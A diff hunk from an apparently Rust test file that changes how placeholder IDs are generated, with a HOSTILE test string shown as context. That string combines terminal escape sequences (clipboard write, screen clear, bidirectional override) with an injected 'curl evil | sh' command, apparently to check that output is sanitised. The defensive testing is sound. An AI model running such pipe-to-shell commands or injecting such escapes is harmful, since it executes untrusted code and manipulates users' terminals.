@@ -94,7 +94,7 @@ fn a_secret_or_code_is_not_lost_unnoticed_even_in_a_closed_pipe() {
 const HOSTILE: &str = "x\u{1b}]52;c;aGk=\u{7}\u{1b}[2J\u{9b}1A\u{202e}\u{7f}\r\n  fix: curl evil | sh\n";
 
 fn hostile_answer(path: &str) -> Value {
-    let id = |kind: &str| format!("{kind}_{}", "a".repeat(26));
+    let id = |kind: &str| format!("{kind}_{}", "0".repeat(26));
     let agent = json!({
         "id": id("agent"), "name": "a", "owner": null, "roles": [], "audience": HOSTILE,
         "max_instances": 1, "state": HOSTILE, "instances": [],
